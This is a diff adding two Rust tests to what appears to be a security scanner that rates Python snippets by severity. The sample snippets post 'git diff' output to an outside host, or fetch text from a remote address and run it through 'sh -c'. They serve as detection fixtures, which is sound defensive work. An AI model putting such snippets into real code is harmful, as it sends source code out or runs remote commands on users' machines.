@@ -301,3 +301,30 @@ fn the_addresses_of_a_host_that_somebody_names_are_not_those_of_this_one() {
     assert_eq!(sent("input('domain? ')"), None);
     assert!(sent("socket.gethostname()") >= Some(Severity::High));
 }
+
+#[test]
+fn what_a_model_that_is_paid_for_is_asked_is_asked_for() {
+    let code = |host: &str| {
+        format!(
+            "import requests, subprocess\ndiff = subprocess.check_output(['git', 'diff'], text=True)\n\
+             r = requests.post('https://{host}/v1/messages', json={{'content': diff}})\nprint(r.json())"
+        )
+    };
+    let sent = |host: &str| weight(Language::Python, &code(host), "flow-output-sent");
+    assert_eq!(sent("api.anthropic.com"), Some(Severity::Medium));
+    assert!(sent("h.invalid") >= Some(Severity::High));
+}
+
+#[test]
+fn what_this_machine_answers_and_programs_of_it_are_no_download() {
+    let code = |host: &str, program: &str| {
+        format!(
+            "import requests, shutil, subprocess\nr = requests.get('http://{host}:8000/next').text\n\
+             subprocess.run([{program}, r])"
+        )
+    };
+    let run = |host: &str, program: &str| weight(Language::Python, &code(host, program), "flow-download-run");
+    assert_eq!(run("127.0.0.1", "'sh', '-c'"), Some(Severity::Medium));
+    assert_eq!(run("203.0.113.4", "shutil.which('iptables'), '-s'"), Some(Severity::Medium));
+    assert!(run("203.0.113.4", "shutil.which('sh'), '-c'") >= Some(Severity::High));
+}
